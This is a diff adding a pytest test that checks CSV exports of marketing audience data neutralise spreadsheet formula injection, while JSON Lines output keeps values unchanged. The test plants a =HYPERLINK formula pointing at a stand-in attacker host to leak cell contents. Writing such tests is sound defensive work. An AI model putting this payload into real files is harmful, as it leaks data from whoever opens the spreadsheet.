@@ -156,3 +156,26 @@ def test_meta_and_google_files_hash_normalised_values(world: World) -> None:
     key_g = lambda r: r["Email"]  # noqa: E731
     assert sorted(meta, key=key_m) == sorted(expected_meta, key=key_m)
     assert sorted(google, key=key_g) == sorted(expected_google, key=key_g)
+
+
+@pytest.mark.parametrize("kind", ["csv", "jsonl"])
+def test_csv_files_defuse_spreadsheet_formulas(world: World, kind: str) -> None:
+    """A name such as ``=HYPERLINK(...)`` (set by a rectification, or ingested as a name) ran as
+    a formula when a marketer opened the CSV export in a spreadsheet. CSV cells that start like
+    a formula get a leading ``'``; a phone (E.164: ``+`` and digits) is left as it is, and JSON
+    Lines carry the values exactly as stored."""
+    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    world.person({**FULL, "first_name": evil, "last_name": "-Quint", "city": "@home"})
+    fields = ["email", "phone", "first_name", "last_name", "city"]
+    world.destination("people", kind, "email_marketing", fields, min_audience=1)
+    result = _run(world, "people", "email_marketing")
+    path = Path(result.manifest["outputs"][0]["path"])
+    if kind == "jsonl":
+        row = json.loads(path.read_text().splitlines()[0])
+        assert (row["first_name"], row["last_name"], row["city"]) == (evil, "-Quint", "@home")
+        return
+    with path.open(newline="") as f:
+        rows = list(csv.DictReader(f))
+    assert rows[0]["first_name"] == "'" + evil
+    assert (rows[0]["last_name"], rows[0]["city"]) == ("'-Quint", "'@home")
+    assert rows[0]["phone"] == FULL["phone"] and rows[0]["email"] == FULL["email"]
